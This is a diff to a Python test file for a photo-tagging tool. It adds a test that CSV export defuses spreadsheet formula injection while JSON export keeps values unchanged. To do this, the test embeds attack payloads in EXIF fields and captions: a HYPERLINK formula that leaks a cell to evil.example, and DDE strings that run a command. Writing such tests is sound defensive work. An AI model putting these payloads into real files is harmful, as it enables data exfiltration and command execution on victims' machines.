@@ -10,11 +10,19 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from click.testing import CliRunner
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from photobatch.plugins.export import CsvExporter, JsonExporter, JsonLinesExporter
+from PIL import Image
+from test_bad_input import StandIn, photo
 
+from photobatch.cli import cli
+from photobatch.core.config import load_config
 from photobatch.core.hooks import exporters
+from photobatch.core.records import Post
+from photobatch.library.index import Index
+from photobatch.plugins.export import CsvExporter, JsonExporter, JsonLinesExporter
+from photobatch.scan.pipeline import Scanner
 
 COLUMNS = ["path", "status", "caption", "hashtags", "lat"]
 
@@ -71,7 +79,59 @@ def test_csv_round_trips_any_text(rows: list[dict[str, Any]]) -> None:
     out = io.StringIO(newline="")
     assert CsvExporter().export(rows, COLUMNS, out) == len(rows)
     back = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
-    assert back == [{c: r[c] or "" for c in COLUMNS} for r in rows]
+    assert back == [{c: as_text(r[c]) for c in COLUMNS} for r in rows]
+
+
+def as_text(value: str | None) -> str:
+    """A cell as a spreadsheet shows it: formula-like text is kept as text behind a ``'``."""
+    if value and value[0] in "=+-@\t\r":
+        return "'" + value
+    return value or ""
+
+
+# What an attacker puts in EXIF fields or an Instagram caption for a spreadsheet to run.
+FORMULAS = {
+    "camera_make": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "camera_model": "+cmd|' /C calc'!A0",
+    "lens": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "caption": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def test_formula_injection_is_neutralised_in_csv_only(tmp_path: Path, shared: Path) -> None:
+    root = tmp_path / "photos"
+    root.mkdir()
+    exif = Image.Exif()
+    exif[0x010F], exif[0x0110] = FORMULAS["camera_make"], FORMULAS["camera_model"]
+    exif.get_ifd(0x8769)[0xA434] = FORMULAS["lens"]
+    photo(shared, "DSCN0010.jpg").save(root / "a.jpg", exif=exif)
+    photo(shared, "DSCN0012.jpg").save(root / "b.jpg")
+    index_path = tmp_path / "index.db"
+    config = load_config(None, index=index_path)
+    index = Index(config.index)
+    Scanner(config, index, progress=False, analyzer_factory=StandIn).scan([root])
+    index.write_posts([Post("1", None, FORMULAS["caption"], []), Post("2", None, "\tx", [])])
+
+    def export(*args: str) -> str:
+        result = CliRunner().invoke(cli, ["--index", str(index_path), "export", *args])
+        assert result.exit_code == 0, result.output
+        return result.output
+
+    photos = {
+        Path(r["path"]).name: r for r in csv.DictReader(io.StringIO(export("--format", "csv")))
+    }
+    for column in ("camera_make", "camera_model", "lens"):
+        assert photos["a.jpg"][column] == "'" + FORMULAS[column]
+    assert photos["a.jpg"]["caption"] == photos["b.jpg"]["caption"] == "a cat on a mat"
+    posts = list(csv.DictReader(io.StringIO(export("--table", "posts", "--format", "csv"))))
+    assert [p["caption"] for p in posts] == ["'" + FORMULAS["caption"], "'\tx"]
+
+    exact = {Path(r["path"]).name: r for r in json.loads(export("--format", "json"))}
+    assert {c: exact["a.jpg"][c] for c in ("camera_make", "camera_model", "lens")} == {
+        c: FORMULAS[c] for c in ("camera_make", "camera_model", "lens")
+    }
+    lines = export("--table", "posts", "--format", "jsonl").splitlines()
+    assert [json.loads(line)["caption"] for line in lines] == [FORMULAS["caption"], "\tx"]
 
 
 def test_json_is_one_array_in_column_order(tmp_path: Path) -> None:
